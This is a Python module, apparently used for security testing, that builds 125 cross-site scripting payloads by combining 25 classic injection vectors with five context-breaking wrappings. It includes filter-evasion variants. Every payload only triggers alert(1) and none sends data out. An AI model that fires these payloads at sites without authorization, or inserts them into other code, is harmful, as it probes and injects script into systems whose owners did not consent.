"""Cross-site scripting payloads: classic vectors, each in several wrappings (attribute breaks,
comment breaks, script-context breaks). Every one of them calls `alert`, so a browser that runs any
of them opens a dialog."""

from __future__ import annotations

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<div style="background:url(javascript:alert(1))">',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
]

WRAPPINGS = [
    "{}",
    "\"'>{}",
    "'>{}",
    '"><!--{}-->',
    "</script>{}",
]


def payloads() -> list[str]:
    """125 payloads: every vector in every wrapping."""
    return [wrapping.format(vector) for vector in VECTORS for wrapping in WRAPPINGS]
